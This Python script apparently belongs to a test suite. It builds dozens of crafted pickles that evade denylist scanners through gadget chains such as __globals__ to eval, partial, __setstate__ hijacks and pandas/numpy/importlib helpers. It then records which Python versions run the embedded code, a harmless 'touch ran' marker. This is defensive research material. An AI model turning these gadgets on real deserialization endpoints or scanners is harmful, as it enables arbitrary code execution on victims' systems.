"""Records pickles that get past a list of bad names by another way than naming one, and
which Python runs the code in them. With any Python 3:

    tricks.py PYTHONS RECORD

PYTHONS is a directory of virtual environments, as tests/setup makes it. RECORD gets a
line for each: its name, the pickle in base64, and the Pythons in which loading it made
the file that the code in it makes.
"""
import base64
import json
import os
import struct
import subprocess
import sys
import tempfile

LOAD = '''
import base64, sys
try:
    import cPickle as pickle
except ImportError:
    import pickle
pickle.loads(base64.b64decode(sys.argv[1]))
'''


def named(path):
    return ('c%s\n%s\n' % tuple(path.split(':'))).encode()


def text(value):
    return b'X' + struct.pack('<I', len(value)) + value.encode()


def call(function, *arguments):
    return function + b'(' + b''.join(arguments) + b'tR'


def make(cls, *arguments):
    return cls + b'(' + b''.join(arguments) + b't\x81'


def list_of(*items):
    return b'(' + b''.join(items) + b'l'


def dict_of(key, value):
    return b'}' + text(key) + value + b's'


def built(thing, state):
    return thing + state + b'b'


def tricks(builtins, major):
    """Yields names and pickles, by what this Python calls its built-ins."""
    of = lambda name: named(builtins + ':' + name)
    getattr_, object_ = of('getattr'), of('object')
    reduce_, item = named('functools:reduce'), named('operator:getitem')
    map_ = of('map') if major == 3 else named('itertools:imap')
    filter_ = of('filter') if major == 3 else named('itertools:ifilter')
    wrapper, namespace = named('textwrap:TextWrapper'), make(named('argparse:Namespace'))
    opened = named('codecs:open')
    all_of = lambda iterator: call(named('collections:deque'), iterator)
    # From any class to its module, and to what is built in.
    inner = call(reduce_, getattr_, list_of(wrapper, text('__init__'), text('__globals__')))
    function = call(item, call(item, inner, text('__builtins__')), text('eval'))
    module = call(item, named('textwrap:__builtins__'), text('eval'))
    code = text('__import__("os").system("touch ran")')
    partial = call(named('functools:partial'), function, code)

    yield 'a chain of attributes, mapped', all_of(call(map_, function, list_of(code)))
    yield 'items of __builtins__, mapped', all_of(call(map_, module, list_of(code)))
    yield 'map made without a call', all_of(make(map_, function, list_of(code)))
    yield 'filter', all_of(call(filter_, function, list_of(code)))
    yield 'starmap', all_of(call(named('itertools:starmap'), function, list_of(b'(' + code + b't')))
    yield 'takewhile', all_of(call(named('itertools:takewhile'), function, list_of(code)))
    yield 'partial', partial + b')R'
    yield 'a partial by its state', built(
        call(named('functools:partial'), of('int')), b'(' + function + b'(' + code + b't}}t') + b')R'
    yield 'iter with a sentinel', all_of(call(of('iter'), partial, b'K\x00'))
    yield 'a count of a map', call(named('collections:Counter'), call(map_, function, list_of(code)))
    yield '__setstate__ of an instance', built(built(namespace, dict_of('__setstate__', function)), code)
    yield 'append of an instance', built(namespace, dict_of('append', function)) + code + b'a'
    yield '__setstate__ of a class', (
        namespace + b'q\x01' + built(call(of('type'), b'h\x01'), b'N' + dict_of('__setstate__', function) + b'\x86')
        + built(b'h\x01', code))
    yield 'the same from the memo', (
        built(namespace + b'q\x01', dict_of('__setstate__', opened)) + b'0' + built(b'h\x01', text('ran')))
    yield 'the same by DUP', built(built(namespace + b'2', dict_of('__setstate__', opened)) + b'0', text('ran'))
    yield 'a closed function as __setstate__', built(built(namespace, dict_of('__setstate__', opened)), text('x'))
    yield 'a closed function as append', built(namespace, dict_of('append', opened)) + text('x') + b'a'
    tuple_of = lambda *items: call(of('tuple'), list_of(*items))
    yield 'arguments that a call gave', getattr_ + tuple_of(wrapper, text('__init__')) + b'R'
    yield 'a class in such arguments', (
        named('copyreg:_reconstructor' if major == 3 else 'copy_reg:_reconstructor')
        + tuple_of(named('app:C'), named('zipfile:ZipFile'), text('x')) + b'R')
    application = named('app:apply')
    for name, given in (
        ('a list', list_of(opened, text('x'))), ('a dict', dict_of('f', opened)),
        ('a tuple in a tuple', b'((' + opened + b'tt'), ('a list in a tuple', b'(' + list_of(opened) + b't'),
        ('an instance', built(namespace, dict_of('f', opened))),
        ('a partial', call(named('functools:partial'), opened, text('x'))),
        ('the seventh place', b'(' + 6 * b'N' + opened + b't'),
    ):
        yield 'an application is given %s' % name, call(application, given)
    yield 'getattr for an application', call(application, getattr_, object_)
    yield 'another class for an instance', built(
        make(named('app:C')), b'N' + dict_of('__class__', named('zipfile:ZipFile')) + b'\x86')
    yield 'a key that compares by a closed function', (
        b'}' + built(b'(iapp\nClassic\n', dict_of('__hash__', opened)) + b'Ns')
    yield 'a key with escapes', b'}' + built(b'(iapp\nClassic\n', b'}V\\u005f_hash__\n' + opened + b's') + b'Ns'
    yield 'a generator of a call', call(
        named('numpy.random._pickle:__generator_ctor'), text('x'), named('pandas:read_pickle'))
    yield 'an index of a class', call(
        named('pandas.core.indexes.base:_new_Index'), named('zipfile:ZipFile'), dict_of('file', text('x')))
    yield 'a header of a class', call(
        named('email.headerregistry:_reconstruct_header'), text('X'), b'(' + opened + b't', text('v'))
    yield 'a class of its own', call(
        of('type'), text('X'), b'(' + object_ + b't', dict_of('__setstate__', opened))
    yield 'a module of a module', call(getattr_, call(getattr_, named('textwrap:re'), text('enum')), text('sys'))
    yield 'a pickle for a loader', call(
        named('pymemcache.serde:python_memcache_deserializer'), text('k'), text('cos\nsystem\n.'), b'K\x01')
    yield 'an entry point', call(
        call(getattr_, call(named('importlib.metadata:EntryPoint'), text('a'), text('os:system'), text('b')),
             text('load'))) + b'0N'


def runs(python, pickled):
    with tempfile.TemporaryDirectory() as directory:
        command = [python, '-c', LOAD, base64.b64encode(pickled).decode()]
        subprocess.run(command, cwd=directory, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        return os.path.exists(os.path.join(directory, 'ran'))


def main(pythons, path):
    versions = sorted(
        (name for name in os.listdir(pythons) if name[0].isdigit()), key=lambda name: [int(n) for n in name.split('.')])
    lines = []
    for builtins, major in (('builtins', 3), ('__builtin__', 2), ('__builtin__', 3)):
        for name, body in tricks(builtins, major):
            pickled = b'\x80\x02' + body + b'.'
            found = [version for version in versions
                     if runs(os.path.abspath(os.path.join(pythons, version, 'bin', 'python')), pickled)]
            lines.append({'name': name, 'b': base64.b64encode(pickled).decode(), 'runs': found})
    with open(path, 'w') as file:
        file.writelines(json.dumps(line, sort_keys=True) + '\n' for line in lines)
    print('%d pickles, of which %d run their code' % (len(lines), sum(1 for line in lines if line['runs'])))


if __name__ == '__main__':
    main(*sys.argv[1:])
